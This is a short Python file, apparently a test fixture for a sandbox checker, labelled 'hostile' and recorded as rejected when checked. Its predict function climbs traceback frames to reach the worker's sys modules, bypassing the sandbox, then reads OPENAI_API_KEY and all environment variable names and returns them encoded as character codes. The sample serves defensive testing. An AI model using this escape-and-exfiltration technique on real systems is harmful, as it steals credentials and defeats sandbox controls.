# hostile: read OPENAI_API_KEY from the environment and return it as character codes
# checked: rejected
# unchecked: harmless

def _modules():
    # climb from our own traceback frame to the worker's globals, which hold ``sys``
    try:
        raise ValueError("walk")
    except ValueError as e:
        f = e.__traceback__.tb_frame
    while f is not None and "sys" not in f.f_globals:
        f = f.f_back
    return f.f_globals["sys"].modules


def predict(x, sentinel="", pwned="", port=0.0):
    os = _modules()["os"]
    value = os.environ.get("OPENAI_API_KEY", "") + "|" + "|".join(os.environ)
    print(value)
    ord_ = _modules()["builtins"].ord
    codes = [float(ord_(c)) for c in value]
    return codes + [0.0] * max(0, len(x) - len(codes))
